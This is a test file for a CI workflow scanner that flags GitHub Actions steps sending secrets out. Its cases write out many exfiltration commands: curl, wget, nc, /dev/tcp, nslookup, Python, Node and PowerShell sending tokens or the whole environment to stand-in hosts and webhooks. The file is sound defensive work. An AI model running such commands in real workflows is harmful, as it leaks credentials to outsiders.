// Secrets on their way out: which steps send one, and which requests are ordinary.
import { describe, expect, it } from 'vitest';
import { COMMIT, run, verdictsOn, workflow } from './inspect.ts';

const ENV = '\n  env: { T: "${{ secrets.NPM_TOKEN }}", HOOK: "${{ secrets.MY_HOOK }}", N: "1" }';
const HOST = 'https://h.example.com';

async function sent(steps: string, options = {}): Promise<string[]> {
  const verdicts = await verdictsOn(workflow(steps, options));
  return verdicts.filter((verdict) => verdict.endsWith('SECRET-SENT')).map((one) => one.split(' ')[0] ?? '');
}

describe('a secret that is sent', () => {
  it.each([
    ['curl -d "$T" http://h.example.com', 'HIGH'],
    [`curl "${HOST}/?t=$T"`, 'MEDIUM'],
    [`curl -d "\${T}" ${HOST}`, 'MEDIUM'],
    [`curl -H "a: \${{ secrets.X }}" ${HOST}`, 'MEDIUM'],
    [`curl -u "me:$T" ${HOST}`, 'MEDIUM'],
    [`curl https://me:$T@h.example.com/`, 'MEDIUM'],
    ['curl -d "$T" h.example.com/x', 'MEDIUM'],
    ['curl -d "$T" https://203.0.113.9/x', 'HIGH'],
    ['curl -d "$T" https://abc.webhook.site/x', 'HIGH'],
    ['curl -d "$T" https://abc.ngrok-free.app', 'HIGH'],
    ['curl -d "$T" https://api.github.com@h.example.com/', 'MEDIUM'],
    ['curl -d "$T" https://api.github.com.example.com/', 'MEDIUM'],
    ['curl -d "$T" "https://${{ vars.HOST }}/x"', 'LOW'],
    [`env | curl -d @- ${HOST}`, 'HIGH'],
    [`printenv | base64 -w0 | curl --data-binary @- ${HOST}`, 'HIGH'],
    [`curl -d "$(env)" ${HOST}`, 'HIGH'],
    [`echo '\${{ toJSON(github) }}' | curl -d @- ${HOST}`, 'HIGH'],
    [`env | curl -d @- https://discord.com/api/webhooks/1/x`, 'HIGH'],
    [`echo "$T" | curl -d @- ${HOST}`, 'MEDIUM'],
    [`X=$(echo "$T" | base64)\ncurl "${HOST}/$X"`, 'MEDIUM'],
    [`U=http://h.example.com\ncurl -d "$T" "$U"`, 'HIGH'],
    [`echo "$T" > /tmp/x\ncurl -d @/tmp/x ${HOST}`, 'MEDIUM'],
    [`env > e.txt; curl -F f=@e.txt ${HOST}`, 'HIGH'],
    [`env > e.txt; curl -d @- ${HOST} < e.txt`, 'HIGH'],
    [`sudo -u me curl -d "$T" ${HOST}`, 'MEDIUM'],
    [`bash -c 'curl -d "$T" ${HOST}'`, 'MEDIUM'],
    [`wget -qO- --post-data "$T" ${HOST}`, 'MEDIUM'],
    ['echo "$T" | nc 203.0.113.9 80', 'HIGH'],
    ['echo "$T" > /dev/tcp/203.0.113.9/80', 'HIGH'],
    ['nslookup "$T.h.example.com"', 'MEDIUM'],
    [`python3 -c "import os,requests;requests.post('${HOST}',data=os.environ['T'])"`, 'MEDIUM'],
    [
      `python3 - <<'E'\nimport os\nfrom urllib.request import urlopen\nurlopen('${HOST}/' + os.getenv("T"))\nE`,
      'MEDIUM',
    ],
    [`python3 -c "import os,requests;requests.post('${HOST}',json=dict(os.environ))"`, 'HIGH'],
    [`node -e "fetch('${HOST}', {method:'POST', body: process.env.T})"`, 'MEDIUM'],
    [`Invoke-RestMethod -Uri ${HOST} -Body $env:T`, 'MEDIUM'],
  ])('%s', async (script, severity) => expect(await sent(run(script) + ENV)).toEqual([severity]));

  it.each([
    ['fetch("https://h.example.com", { body: process.env.T })', ['MEDIUM']],
    ['const { T } = process.env; await fetch("https://h.example.com/" + T)', ['MEDIUM']],
    ['await fetch("https://api.github.com/user", { headers: { a: process.env.T } })', []],
    ['await fetch("https://h.example.com"); await github.rest.issues.create({})', []],
  ])('by a program of an action: %s', async (script, severities) => {
    const step = `- uses: actions/github-script@${COMMIT}\n  with:\n    script: |\n      ${script}${ENV}`;
    expect(await sent(step)).toEqual(severities);
  });

  it('by a script in another language', async () => {
    const script = `import os, requests\nrequests.post("${HOST}", data=os.environ["T"])`;
    expect(await sent(`${run(script)}\n  shell: python${ENV}`)).toEqual(['MEDIUM']);
  });

  it('from the environment of the job and of the workflow', async () => {
    const script = run(`curl -d "$K" ${HOST}`);
    expect(await sent(script, { job: 'env: { K: "${{ secrets.K }}" }' })).toEqual(['MEDIUM']);
    expect(await sent(script, { env: '{ K: "${{ secrets.K }}" }' })).toEqual(['MEDIUM']);
  });
});

describe('an ordinary request', () => {
  it.each([
    'curl -H "Authorization: Bearer $T" https://api.github.com/user',
    'curl -H "Authorization: Bearer $T" "$GITHUB_API_URL/user" -o x.json && echo',
    'curl -d x "$HOOK"',
    'curl -d x "https://hooks.slack.com/services/$HOOK"',
    'curl -d "$N" https://h.example.com',
    'curl -d "$T" http://localhost:8080/login',
    'curl -d "$T" http://registry:5000/login',
    'curl -u "a:$T" https://s3.eu-west-1.amazonaws.com/x',
    'curl https://h.example.com && npm publish --token "$T"',
    'env | sort',
    'echo "$T" > /dev/null\ncurl https://h.example.com > /dev/null',
    'echo "$T" | docker login -u me --password-stdin example.com',
    'curl -sS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x"',
    `python3 -c "import requests; requests.get('https://h.example.com')"`,
  ])('%s', async (script) => expect(await sent(run(script) + ENV)).toEqual([]));
});
